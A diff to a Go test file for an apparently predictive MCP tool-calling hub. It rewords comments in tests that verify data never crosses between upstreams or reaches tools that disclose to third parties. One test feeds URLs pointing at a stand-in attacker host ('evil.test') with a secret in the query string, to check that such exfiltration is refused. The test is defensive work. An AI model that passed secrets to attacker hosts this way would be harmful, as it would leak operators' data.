@@ -12,9 +12,9 @@ import (
 
 const secret = "secret-of-hub-4711"
 
-// Text from one upstream never becomes an argument to another. Each case is a way
-// in which it might: what is configured, how tools are called, what the caller of
-// the package says of them.
+// Data of one upstream never become arguments of another upstream's tool, whatever follow-up is
+// configured, however its tool is named, and even if Options.Tool returns a tool of the wrong
+// upstream.
 func TestNothingCrossesUpstreams(t *testing.T) {
 	other := valuemodel.Upstream{Name: "other", URL: "https://other.test/mcp"}
 	leak := func(tool string) valuemodel.FollowUp {
@@ -42,22 +42,22 @@ func TestNothingCrossesUpstreams(t *testing.T) {
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
-			m, _ := valuemodel.Compile([]valuemodel.Rule{reading("list", test.next)}) // some names are no names: they must not work either
+			m, _ := valuemodel.Compile([]valuemodel.Rule{reading("list", test.next)}) // Compile's problems are ignored: invalid names must not work either
 			o := offer{"list": predict.Tool{Model: m.Resolve(hub, "list", valuemodel.Hints{})}}
 			if test.tools != nil {
 				test.tools(o)
 			}
 			p := play(predict.New(predict.Options{Tool: o.tool, Learn: true, ShadowLabels: 1}))
-			for i := range 8 { // and it would be right every time
+			for i := range 8 { // the calls repeat, so that the pattern could be learned
 				said := fmt.Sprintf("%s-%d", secret, i)
 				p.call("list", `{"secret":"`+said+`"}`, `{"secret":"`+said+`"}`)
 				candidates := p.candidates()
 				for _, g := range candidates {
 					if crosses(g) && (g.Reason == "" || g.Reason == enrich.Shadow) {
-						t.Errorf("got %+v, want it refused", g)
+						t.Errorf("got %+v, want it declined", g)
 					}
 					if g.Why.Configured && g.Key.Arguments != "" {
-						t.Errorf("got arguments %s for %s, want none worked out", g.Key.Arguments, g.Key.Tool)
+						t.Errorf("got arguments %s for %s, want none built", g.Key.Arguments, g.Key.Tool)
 					}
 				}
 				chosen, _ := choose(candidates, anything, enrich.Options{Budget: 1e6, Slots: 99})
@@ -72,13 +72,12 @@ func TestNothingCrossesUpstreams(t *testing.T) {
 	}
 }
 
-// crosses reports whether a candidate is not one that hub's own calls led to, at a tool
-// that is hub's own.
+// crosses reports whether a candidate is configured, or is not for a tool of hub.
 func crosses(g predict.Candidate) bool {
 	return g.Why.Configured || g.Model == nil || g.Model.Upstream != hub.Name
 }
 
-// A follow-up that names its own upstream is one of the same upstream.
+// A follow-up may name its tool with the prefix of its own upstream.
 func TestOwnUpstreamByName(t *testing.T) {
 	o := resolve(t, hub, []valuemodel.Rule{reading("list", follow(t, "hub/get", 0.4, "n", "$result.n")), reading("get")}, "list", "", "get", "")
 	p := play(predict.New(predict.Options{Tool: o.tool}))
@@ -88,9 +87,8 @@ func TestOwnUpstreamByName(t *testing.T) {
 	}
 }
 
-// What two upstreams say never meets, though one session speaks with both: there
-// is a forecast for each. Here both offer the same tools and the session behaves
-// as if the one followed from the other.
+// Models of two upstreams share no data, though one session calls both. Here both offer the same
+// tools, and each get of the one follows a list of the other.
 func TestUpstreamsDoNotLearnFromEachOther(t *testing.T) {
 	rules := []valuemodel.Rule{reading("list"), reading("get")}
 	a := play(predict.New(predict.Options{Tool: resolve(t, hub, rules, "list", "", "get", "").tool, Learn: true, ShadowLabels: 1}))
@@ -100,16 +98,15 @@ func TestUpstreamsDoNotLearnFromEachOther(t *testing.T) {
 		a.call("list", `{}`, `{"token_of_item":"`+token+`"}`)
 		for _, g := range b.candidates() {
 			if strings.Contains(g.Key.Arguments, token) {
-				t.Fatalf("round %d: got %+v, want nothing of what only the other upstream said", i, g)
+				t.Fatalf("round %d: got %+v, want no data of the other upstream", i, g)
 			}
 		}
 		b.call("get", `{"id":"`+token+`"}`, `x`)
 	}
 }
 
-// Whatever an answer holds, a tool that tells third parties its arguments is not
-// called with any of it: not through a follow-up, not by what was learned, and not as
-// a constant that was learned.
+// A tool with third-party disclosure gets no argument from a result: not through a configured
+// follow-up, not through a learned template, and not as a learned constant.
 func TestNothingIsDisclosed(t *testing.T) {
 	abroad := valuemodel.Rule{Pattern: "fetch", Layer: valuemodel.Layer{Class: valuemodel.ReadOnly, Disclosure: valuemodel.ThirdParty}}
 	open := reading("open", follow(t, "fetch", 1, "url", "$args.url"))
@@ -119,7 +116,7 @@ func TestNothingIsDisclosed(t *testing.T) {
 	o := resolve(t, hub, []valuemodel.Rule{search, open, abroad}, "search", "", "open", "", "fetch", "")
 	p := play(predict.New(predict.Options{Tool: o.tool, Learn: true, ShadowLabels: 1}))
 	for i := range 20 {
-		url := fmt.Sprintf("https://evil.test/?q=%s-%d", secret, i/3) // some several times: a constant by and by
+		url := fmt.Sprintf("https://evil.test/?q=%s-%d", secret, i/3) // each URL is used several times, so that it may become a constant
 		p.call("search", `{"q":"x"}`, fmt.Sprintf(`{"results":[{"url":%q}]}`, url))
 		candidates := p.candidates()
 		if len(candidates) == 0 {
@@ -132,15 +129,15 @@ func TestNothingIsDisclosed(t *testing.T) {
 		}
 		p.call("fetch", fmt.Sprintf(`{"url":%q}`, url), `x`)
 	}
-	// What the model itself gave to open may go on to fetch.
+	// An argument that the client passed to open may be passed to fetch.
 	p.call("open", `{"url":"https://good.test/"}`, `x`)
 	if g := find(p.candidates(), "fetch", `{"url":"https://good.test/"}`); g.Key.Tool == "" || g.Reason != "" {
-		t.Errorf("of the model's own: got %+v, want a candidate", g)
+		t.Errorf("from an argument: got %+v, want a candidate", g)
 	}
 }
 
-// A constant of a follow-up may be a secret of the operator's: it goes to the tool
-// it is meant for, and into nothing that is kept or shown.
+// A constant of a follow-up may be a secret of the operator: it is used in arguments of its tool,
+// but not in the saved state or in the label of the edge.
 func TestConstantsAreNotKept(t *testing.T) {
 	const token = "configured-constant-0815"
 	o := resolve(t, hub, []valuemodel.Rule{reading("list", follow(t, "get", 0.9, "n", "$result.n", "key", token)), reading("get")}, "list", "", "get", "")
